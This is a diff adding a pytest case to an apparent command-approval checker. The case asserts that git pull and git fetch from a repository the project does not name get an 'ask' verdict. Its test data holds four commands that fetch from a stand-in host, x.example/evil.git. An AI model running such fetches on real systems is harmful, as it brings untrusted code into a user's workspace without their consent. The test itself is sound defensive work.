@@ -77,3 +77,14 @@ def test_fy3_help_lines_in_other_spellings_are_offered_exactly(tmp_path: Path, l
     assert decide(f"{program} run main.py", tmp_path, env, *filter(None, [offered])).verdict is (
         Verdict.ASK
     )
+
+
+@pytest.mark.parametrize(
+    "line",
+    ["git pull https://x.example/evil.git main", "git fetch git@x.example:evil.git",
+     "git pull ssh://x.example/evil.git", "git fetch --depth 1 https://x.example/e.git"],
+)  # fmt: skip
+def test_a_fetch_from_a_url_the_repository_does_not_name_asks(tmp_path: Path, line: str) -> None:
+    workspace, env = untracked_stash_repository(tmp_path)
+    decision = decide(line, workspace, env, "git pull", "git fetch")
+    assert decision.verdict is Verdict.ASK, decision.explain()
